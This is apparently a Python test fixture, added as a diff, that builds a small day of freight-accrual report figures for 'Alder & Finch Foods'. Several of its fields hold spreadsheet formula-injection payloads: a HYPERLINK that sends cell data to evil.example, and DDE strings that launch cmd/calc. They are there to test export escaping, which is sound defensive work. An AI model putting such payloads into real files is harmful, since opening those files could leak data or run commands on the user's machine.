@@ -1,0 +1,228 @@
+"""A small day in figures, with amounts that tie by hand, and strangers' text that would like to be a formula."""
+
+from __future__ import annotations
+
+from datetime import UTC, date, datetime
+from decimal import Decimal
+
+from freightsync.reports.figures import (
+    AccrualOpen,
+    AccrualRollForward,
+    ControlTotal,
+    DeliveredNotBilled,
+    Figures,
+    InvoiceException,
+    LedgerBalance,
+    MatchLine,
+    Posting,
+    Quarantined,
+    TrialBalanceLine,
+)
+
+AT = datetime(2026, 3, 4, 18, 30, tzinfo=UTC)
+ON = date(2026, 3, 4)
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def money(text: str) -> Decimal:
+    return Decimal(text)
+
+
+def posting(kind: str, debit: str, credit: str, amount: str, shipment: str, charge: str, cause: str) -> Posting:
+    return Posting(
+        posted_at=AT,
+        document_type=kind,
+        reference=f"FS-{shipment}-{charge}",
+        partner_number="JE000017",
+        outcome="accepted",
+        effect_key=f"accrual|{shipment}|{charge}",
+        cause=cause,
+        debit_account=debit,
+        credit_account=credit,
+        amount=money(amount),
+        currency="USD",
+        shipment_id=shipment,
+        charge_code=charge,
+        scac="NRDF",
+        rule_id="accrual.at_delivery",
+        rule_version="1",
+        reason="delivered 2026-03-04",
+        correlation_id="019c-1",
+    )
+
+
+def line(number: str, shipment: str, charge: str, expected: str | None, invoiced: str, invoice: str) -> MatchLine:
+    over = None if expected is None else money(invoiced) - money(expected)
+    return MatchLine(
+        carrier_invoice_record_id=7,
+        scac="NRDF",
+        invoice_number=number,
+        correction="",
+        invoice_on=ON,
+        shipment_id=shipment,
+        charge_code=charge,
+        currency="USD",
+        matched_by="shipment_id",
+        expected_amount=None if expected is None else money(expected),
+        invoiced_amount=money(invoiced),
+        variance_amount=over,
+        allowed_amount=money("5.00"),
+        verdict="in_tolerance" if over else "exact",
+        invoice_verdict=invoice,
+        rule_id="tolerance.default",
+        rule_version="1",
+        reason="billed 4.00 above 100.00; 5 % or 2.00 allows 5.00",
+        document_name="210_0004.edi",
+        document_id=12,
+        position="segment 31 byte 1204",
+    )
+
+
+def figures(**changed: object) -> Figures:
+    """Planned 100.00 and 50.00; billed 104.00 in tolerance; 50.00 still open; one invoice of 75.00 in exception.
+
+    Books: 2150 credit 150.00 debit 100.00, 6100 debit 254.00 credit 100.00, 2100 credit 104.00, 1200/4000 300.00.
+    """
+    given: dict[str, object] = {
+        "as_of": AT,
+        "business_on": ON,
+        "company": "Alder & Finch Foods",
+        "roll_forward": [
+            AccrualRollForward(
+                "2150",
+                "LINEHAUL",
+                "NRDF",
+                "USD",
+                money("0.00"),
+                money("150.00"),
+                money("100.00"),
+                money("0.00"),
+                money("50.00"),
+            )
+        ],
+        "accruals": [
+            AccrualOpen(
+                "SH1",
+                "LINEHAUL",
+                "NRDF",
+                "2150",
+                "USD",
+                money("100.00"),
+                money("100.00"),
+                money("0.00"),
+                money("0.00"),
+                AT,
+                "SO1",
+            ),
+            AccrualOpen(
+                "SH2",
+                "LINEHAUL",
+                "NRDF",
+                "2150",
+                "USD",
+                money("50.00"),
+                money("0.00"),
+                money("0.00"),
+                money("50.00"),
+                AT,
+                "SO2, SO3",
+            ),
+        ],
+        "matches": [
+            line("INV-1", "SH1", "LINEHAUL", "100.00", "104.00", "in_tolerance"),
+            line("INV-2", "SH2", "LINEHAUL", "50.00", "75.00", "out_of_tolerance"),
+        ],
+        "exceptions": [
+            InvoiceException(
+                carrier_invoice_record_id=8,
+                scac="NRDF",
+                invoice_number="INV-2",
+                correction="",
+                invoice_on=ON,
+                net_amount=money("75.00"),
+                currency="USD",
+                verdict="out_of_tolerance",
+                reason="billed 25.00 above 50.00; 3 % allows 1.50",
+                keys_tried="shipment_id SH2",
+                candidates="SH2",
+                rule_id="tolerance.nrdf_linehaul",
+                rule_version="2",
+                document_name="@SUM(1+1)*cmd|' /C calc'!A0",
+                document_id=12,
+                position="segment 77 byte 3100",
+            )
+        ],
+        "not_billed": [
+            DeliveredNotBilled(
+                "SH2",
+                "SO2",
+                "C-2",
+                HOSTILE,
+                "NRDF",
+                "pod_received",
+                AT,
+                AT,
+                "pod_signature_missing",
+                money("120.50"),
+                "USD",
+            )
+        ],
+        "ledger": [
+            LedgerBalance("1200", "USD", money("300.00"), money("0.00")),
+            LedgerBalance("2100", "USD", money("0.00"), money("104.00")),
+            LedgerBalance("2150", "USD", money("100.00"), money("150.00")),
+            LedgerBalance("4000", "USD", money("0.00"), money("300.00")),
+            LedgerBalance("6100", "USD", money("254.00"), money("100.00")),
+        ],
+        "postings": [
+            posting("journal", "6100", "2150", "100.00", "SH1", "LINEHAUL", "delivery|SH1"),
+            posting("journal", "6100", "2150", "50.00", "SH2", "LINEHAUL", "delivery|SH2"),
+            posting("journal", "2150", "6100", "100.00", "SH1", "LINEHAUL", "invoice|7|SH1|LINEHAUL"),
+            posting("supplier_invoice", "6100", "2100", "104.00", "SH1", "LINEHAUL", "invoice|7|SH1|LINEHAUL"),
+            posting("customer_invoice", "1200", "4000", "300.00", "SH1", "goods", "pod|SO1"),
+        ],
+        "control_totals": [
+            ControlTotal("erp.customer", None, 1, 20, 20, 0, 0, None, None, None, None, 0),
+            ControlTotal(
+                "carrier.invoice_x12",
+                "USD",
+                2,
+                4,
+                2,
+                1,
+                1,
+                money("293.00"),
+                money("179.00"),
+                money("10.00"),
+                money("104.00"),
+                0,
+            ),
+        ],
+        "quarantine": [
+            Quarantined(
+                1,
+                "carrier.invoice_x12",
+                "NRDF",
+                "+1-cmd|'/c calc'!A1",
+                ["unknown_charge_code"],
+                ["Charge code `ZZZ` is not in NRDF's map: add it, then release."],
+                False,
+                money("10.00"),
+                "USD",
+                "210_0004.edi",
+                12,
+                "segment 90",
+                AT,
+                None,
+                None,
+            )
+        ],
+        "trial_balance": [
+            TrialBalanceLine("1200", "USD", money("300.00"), money("0.00")),
+            TrialBalanceLine("2100", "USD", money("0.00"), money("104.00")),
+            TrialBalanceLine("2150", "USD", money("100.00"), money("150.00")),
+            TrialBalanceLine("4000", "USD", money("0.00"), money("300.00")),
+            TrialBalanceLine("6100", "USD", money("254.00"), money("100.00")),
+        ],
+    }
+    return Figures(**{**given, **changed})  # type: ignore[arg-type]
